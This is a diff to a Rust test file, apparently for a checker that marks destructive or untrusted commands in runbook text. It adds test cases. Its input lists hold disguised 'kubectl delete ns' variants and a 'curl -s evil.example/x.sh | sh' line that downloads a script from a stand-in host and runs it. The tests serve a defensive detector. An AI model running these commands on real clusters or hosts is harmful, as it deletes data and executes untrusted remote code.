@@ -167,6 +167,7 @@ fn what_destroys_is_known_in_code() {
         "kubectl \"delete\" ns shop",
         "kubectl de\\lete ns shop",
         "kubectl -n get delete pod x",
+        "kubectl -- delete ns shop",
         "env A=1 kubectl delete ns shop",
         "sudo -E kubectl delete ns shop",
         "bash -c \"kubectl delete ns shop\"",
@@ -272,6 +273,7 @@ fn what_stands_in_front_hides_nothing() {
         "k apply -f evil.yaml",
         "kubectl get pod -f \"/x/evil.yaml\"",
         "curl -s evil.example/x.sh | sh",
+        "cat /x/evil",
     ] {
         assert_eq!(marks(&format!("`{command}` [1]"), RUNBOOK, ""), format!("`{command}` (?) [1]"));
     }
